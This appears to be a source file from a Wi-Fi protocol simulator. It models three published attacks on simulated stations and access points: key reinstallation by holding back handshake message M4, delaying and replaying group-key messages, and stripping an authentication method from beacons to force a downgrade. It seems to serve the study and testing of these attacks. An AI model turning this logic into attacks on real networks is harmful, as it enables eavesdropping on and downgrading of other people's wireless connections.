/**
 * The channel-based man in the middle of Vanhoef and Piessens (Key Reinstallation Attacks, 2017, 3.2): stations are on
 * the channel of a clone of the access point, and frames cross between there and the access point's own channel through
 * the attacker alone. The capture is of the stations' channel; the time that the attacker takes is left out. Each of
 * these functions gives, for the air of the stations, the one that the access point finds itself on.
 */
import { copyOf } from '../../codecs/copy.js';
import { decodeDot11, encodeDot11 } from '../../codecs/dot11/frame.js';
import { ADDRESS_1, ADDRESS_2, FRAME_TYPE, frameType, isProtected } from '../../codecs/dot11/header.js';
import { isGroupAddress } from '../../codecs/dot11/mac.js';
import { type Clock, SECOND } from '../engine/engine.js';
import { ifDecodable } from '../engine/if-decodable.js';
import { AddressMap } from '../memory/address-map.js';
import type { Air, Transmission } from './air.js';
import { keyMessageIn } from './attack.js';
import { EAPOL_TID, tidOf } from './frames.js';

/** Where the attack on a station's handshake stands. */
interface KeptM4 {
  readonly mpdu: Uint8Array;
  step: 'kept' | 'M3 repeated' | 'let through';
}

/**
 * Keeps M4 from the access point until the station has had M3 once more, and lets it through then. It reads and changes
 * no protected frame, and needs no key (3.3).
 * @param note comments on the frame that is being delivered
 */
export const keepM4 =
  (note: (text: string) => void) =>
  (air: Air): Air => {
    const keptOf = new AddressMap<KeptM4>();
    return {
      drop: (from, to) => air.drop(from, to),
      transmit(transmission) {
        const { mpdu, done } = transmission;
        const message = keyMessageIn(mpdu);
        if (message === 'M1') keptOf.delete(mpdu, ADDRESS_1);
        const kept = keptOf.get(mpdu, ADDRESS_1);
        if (message !== 'M3' || kept === undefined) return air.transmit(transmission);
        air.transmit({
          ...transmission,
          done(acknowledged) {
            if (acknowledged && kept.step === 'kept') kept.step = 'M3 repeated';
            done?.(acknowledged);
          },
        });
      },
      attach: accessPoint =>
        air.attach({
          address: accessPoint.address,
          isAccessPoint: accessPoint.isAccessPoint,
          hear(mpdu) {
            const kept = keptOf.get(mpdu, ADDRESS_2);
            if (kept?.step === 'M3 repeated') {
              kept.step = 'let through';
              note('attacker: lets the M4 through that it kept');
              accessPoint.hear(kept.mpdu);
            } else if (kept?.step !== 'let through' && keyMessageIn(mpdu) === 'M4') {
              keptOf.set(mpdu, kept ?? { mpdu: copyOf(mpdu), step: 'kept' }, ADDRESS_2);
              note('attacker: keeps M4 from the access point, and acknowledges it in its name');
              return;
            }
            accessPoint.hear(mpdu);
          },
        }),
    };
  };

/** Where the attack on the group key of a station stands. */
interface WithheldG1 {
  step: 'G2 kept' | 'G1 withheld' | 'let through';
  readonly g2: Uint8Array;
  g1: Transmission | undefined;
  /** What was sent to all since. */
  readonly toAll: Transmission[];
}

/** Whether a frame holds an EAPOL-Key frame that is protected: nobody without the key sees more of it than its priority, and length. */
const isHiddenKeyMessage = (mpdu: Uint8Array): boolean => isProtected(mpdu) && tidOf(mpdu) === EAPOL_TID;

const isHiddenToAll = (mpdu: Uint8Array): boolean =>
  isProtected(mpdu) && isGroupAddress(mpdu, ADDRESS_1) && frameType(mpdu) === FRAME_TYPE.data;

/**
 * The attack on a group key that is taken into use once all stations have it (4.2): keeps the G2 of a station from the access
 * point until that sends G1 again, which it withholds, and lets G2 through. The G1 that it hands over in the end is fresh to the
 * station; and what was sent to all meanwhile it sends again. It reads and changes no protected frame, and needs no key.
 * @param delay nanoseconds for which it withholds G1
 * @param most frames to all that it sends again
 */
export const withholdG1 =
  ({
    clock,
    note,
    delay,
    most,
  }: {
    readonly clock: Clock;
    readonly note: (text: string) => void;
    readonly delay: number;
    readonly most: number;
  }) =>
  (air: Air): Air => {
    const attackOf = new AddressMap<WithheldG1>();
    const attacks: WithheldG1[] = [];

    const sendAgain = ({ toAll }: WithheldG1): void => {
      for (const one of toAll) air.transmit({ ...one, comment: 'attacker: sends this frame to all again' });
    };
    const handOver = (attack: WithheldG1): void =>
      air.transmit({
        ...attack.g1!,
        comment: `attacker: hands over the G1 that it has withheld for ${delay / SECOND} s`,
        done: isAcknowledged => {
          if (isAcknowledged) sendAgain(attack);
        },
      });

    return {
      drop: (from, to) => air.drop(from, to),
      transmit(transmission) {
        const { mpdu, rate } = transmission;
        const copy = (): Transmission => ({ mpdu: copyOf(mpdu), rate });
        if (isHiddenToAll(mpdu))
          for (const { step, toAll } of attacks)
            if (step === 'let through' && toAll.length < most) toAll.push(copy());
        const attack = isHiddenKeyMessage(mpdu) ? attackOf.get(mpdu, ADDRESS_1) : undefined;
        if (attack?.step !== 'G2 kept') return air.transmit(transmission);
        attack.step = 'G1 withheld';
        attack.g1 = copy();
        clock.after(delay, () => handOver(attack));
        transmission.done?.(true);
      },
      attach: accessPoint =>
        air.attach({
          address: accessPoint.address,
          isAccessPoint: accessPoint.isAccessPoint,
          hear(mpdu) {
            const attack = attackOf.get(mpdu, ADDRESS_2);
            if (attack?.step === 'G1 withheld') {
              attack.step = 'let through';
              note('attacker: lets the G2 through that it kept, now that it has the G1 that came again');
              accessPoint.hear(attack.g2);
            } else if (isHiddenKeyMessage(mpdu) && attack?.step !== 'let through') {
              if (attack !== undefined) return;
              note('attacker: keeps G2 from the access point, and acknowledges it in its name');
              const begun: WithheldG1 = { step: 'G2 kept', g2: copyOf(mpdu), g1: undefined, toAll: [] };
              attackOf.set(mpdu, begun, ADDRESS_2);
              attacks.push(begun);
              return;
            }
            accessPoint.hear(mpdu);
          },
        }),
    };
  };

/** Takes an AKM out of the RSNE of each beacon and probe response, so that stations believe it is not to be had. */
export const withholdAkm =
  (akm: string) =>
  (air: Air): Air => ({
    drop: (from, to) => air.drop(from, to),
    attach: accessPoint => air.attach(accessPoint),
    transmit(transmission) {
      const frame = ifDecodable(() => decodeDot11(transmission.mpdu));
      if (frame?.kind !== 'beacon' && frame?.kind !== 'probe-response') return air.transmit(transmission);
      const elements = frame.elements.map(element =>
        element.element === 'RSN' ? { ...element, akms: element.akms?.filter(one => one !== akm) } : element,
      );
      air.transmit({
        ...transmission,
        mpdu: encodeDot11({ ...frame, elements }),
        comment: `attacker: takes AKM ${akm} out of the RSNE`,
      });
    },
  });
